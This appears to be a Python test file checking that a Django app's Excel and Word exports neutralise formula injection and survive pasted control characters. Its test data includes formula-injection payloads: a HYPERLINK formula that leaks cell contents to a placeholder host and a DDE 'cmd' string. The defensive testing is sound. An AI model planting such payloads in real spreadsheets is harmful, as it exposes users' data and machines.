"""What users type, downloaded: every workbook and document the web app exports.

An agency's solution text and executor become the actions workbook; a delegate's name, position
and organisation become the delegate list; an agency's analysis becomes the contribution book and
a conference's facts the Giấy mời. Text starting with =, +, -, @, tab or CR is neutralised the
project's way (an apostrophe in front, :func:`chiso.parindex.export.safe_cell`), numbers stay
numeric cells, and control characters pasted from other programs never break a download.
"""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import docx
import openpyxl
import pytest

from chiso.web.campaigns import services as campaigns
from chiso.web.campaigns.services import ContributionContent, ItemText
from chiso.web.campaigns.solutions import SolutionText

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Xem")'
FORMULAS = (LINK, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1")
EXAMPLE = Path(__file__).resolve().parents[2] / "examples"


def workbook_cells(response) -> list:
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def assert_neutralised(cells: list, typed: tuple[str, ...]) -> None:
    assert all(c.data_type != "f" for c in cells), "a cell became a formula"
    values = {c.value for c in cells}
    for text in typed:
        assert "'" + text in values, text


@pytest.fixture
def hostile_actions(member, coordinator, own):
    """The member's contribution, every solution typed as formulas, accepted, made actions."""
    from chiso.web.actions.services import actions_from_campaign

    items = own.items.select_related("assignment")
    content = ContributionContent(
        general_text="=1+1",
        items={
            item.assignment.code: ItemText(
                causes="@nguyên nhân",
                solutions=(
                    SolutionText(
                        text=LINK,
                        owner="@SUM(1)",
                        deadline=date(2026, 12, 31),
                        expected_points=item.assignment.lost,
                    ),
                ),
            )
            for item in items
        },
    )
    campaigns.contribution_submit(acting_user=member, contribution=own, content=content)
    campaigns.contribution_accept(acting_user=coordinator, contribution=own)
    return actions_from_campaign(acting_user=coordinator, campaign=own.campaign)


def test_actions_workbooks_neutralise_what_agencies_typed(client, member, hostile_actions):
    assert hostile_actions
    client.force_login(member)
    campaign = hostile_actions[0].campaign_id
    for url in (f"/tham-luan/{campaign}/hanh-dong.xlsx", "/hanh-dong.xlsx"):
        cells = workbook_cells(client.get(url))
        assert_neutralised(cells, (LINK, "@SUM(1)"))
        points = [c for c in cells if isinstance(c.value, float)]
        assert points and all(c.data_type == "n" for c in points)
        assert any(isinstance(c.value, date) for c in cells)  # deadlines stay dates


@pytest.fixture
def conference(coordinator, campaign):
    from chiso.web.conference.services import conference_import

    path = EXAMPLE / "giay-moi-sipas-par-index-2025-da-sua.yaml"
    return conference_import(
        acting_user=coordinator, campaign=campaign, data=path.read_bytes(), name=path.name
    )


def test_delegate_list_neutralises_names_and_survives_control_characters(
    client, coordinator, conference
):
    url = f"/tham-luan/{conference.campaign_id}/hoi-nghi/dai-bieu/them/"
    client.force_login(coordinator)
    for name, position, organisation in (
        ("@SUM(1)", "=1+1", "-cmd"),
        ("Nguyễn\x07 Văn\x1b A", "+Phó\x0bgiám đốc", "Sở\x0c Nội vụ"),
    ):
        fields = {"name": name, "position": position, "organisation": organisation, "group": ""}
        assert client.post(url, fields).status_code == 302
    cells = workbook_cells(
        client.get(f"/tham-luan/{conference.campaign_id}/hoi-nghi/dai-bieu.xlsx")
    )
    # The form makes every run of spaces one space (\x0b and \x0c are spaces to Python).
    assert_neutralised(cells, ("@SUM(1)", "=1+1", "-cmd", "+Phó giám đốc"))
    values = {c.value for c in cells}
    assert "Nguyễn Văn A" in values and "Sở Nội vụ" in values
    numbers = [c for c in cells if isinstance(c.value, int)]
    assert numbers and all(c.data_type == "n" for c in numbers)  # the TT column


def test_ledger_workbook_neutralises_names(settings):
    from chiso.web.dashboard.export import ledger_xlsx

    rows = [
        SimpleNamespace(code=text, name=text, max=1.0, achieved=0.5, lost=-0.5, lead_agency=None)
        for text in FORMULAS
    ]
    book = openpyxl.load_workbook(io.BytesIO(ledger_xlsx(rows, title="@tiêu đề")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert_neutralised(cells, (*FORMULAS, "@tiêu đề"))
    assert {c.value for c in cells if c.data_type == "n"} >= {1.0, 0.5, -0.5}


def test_contribution_book_and_invitation_survive_pasted_control_characters(
    client, member, coordinator, own, conference, fill
):
    """Word's vertical tab or a stray escape, pasted into a text area, is stored as typed; the
    DOCX made from it drops the characters XML cannot hold instead of failing (a 500)."""
    client.force_login(member)
    body = {"action": "save", "general_text": "Ý kiến\x0bchung\x1b[0m"}
    assert client.post(f"/tham-luan/bai/{own.pk}/", body).status_code == 302
    own.refresh_from_db()
    assert own.general_text == "Ý kiến\x0bchung\x1b[0m"
    campaigns.contribution_submit(
        acting_user=member, contribution=own, content=fill(own, "\x07lỗi\x1b")
    )
    client.force_login(coordinator)
    response = client.get(f"/tham-luan/{own.campaign_id}/so-tham-luan.docx")
    assert response.status_code == 200
    book = docx.Document(io.BytesIO(response.content))
    text = "\n".join(p.text for p in book.paragraphs)
    text += "\n".join(c.text for t in book.tables for row in t.rows for c in row.cells)
    assert "lỗi" in text and "\x07" not in text
    conference.title = "Hội nghị\x07 phân tích"
    conference.save(update_fields=["title"])
    response = client.get(f"/tham-luan/{own.campaign_id}/hoi-nghi/giay-moi.docx")
    assert response.status_code == 200
    docx.Document(io.BytesIO(response.content))


def test_solution_points_keep_their_value(member, own):
    """Numbers are not text: the stored expected points stay a Decimal, whatever was typed."""
    item = own.items.select_related("assignment").first()
    content = ContributionContent(
        items={
            item.assignment.code: ItemText(
                solutions=(
                    SolutionText(
                        text="-0,5 điểm",
                        owner="-",
                        deadline=date(2026, 12, 31),
                        expected_points=item.assignment.lost,
                    ),
                )
            )
        }
    )
    campaigns.contribution_save_draft(acting_user=member, contribution=own, content=content)
    stored = item.solution_rows.get()
    assert (stored.text, stored.expected_points) == ("-0,5 điểm", item.assignment.lost)
    assert isinstance(stored.expected_points, Decimal)
